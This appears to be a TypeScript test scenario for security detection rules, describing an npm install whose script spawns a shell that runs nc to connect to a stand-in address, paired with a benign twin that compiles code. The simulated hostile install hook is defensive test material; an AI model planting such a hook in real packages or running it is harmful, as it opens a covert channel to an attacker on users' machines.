import { container, scene } from '../src/scenes/scene.ts';
import { run } from '../src/scenes/steps.ts';

export default scene({
  name: 'network-tool-in-npm-install',
  story: 'A package that npm installs runs a script of its own, which opens a connection to its author.',
  technique: 'T1195.002',
  place: container(),
  falco: ['Network Tool Executed During NPM Package Install'],
  lanner: [],
  steps: [
    run('npm', {
      with: ['install'],
      does: [run('sh', { does: [run('nc', { with: ['198.51.100.7', '443'] })] })],
    }),
  ],
  twin: {
    because: 'the script compiles a part of the package.',
    steps: [run('npm', { with: ['install'], does: [run('sh', { does: [run('cc')] })] })],
  },
});
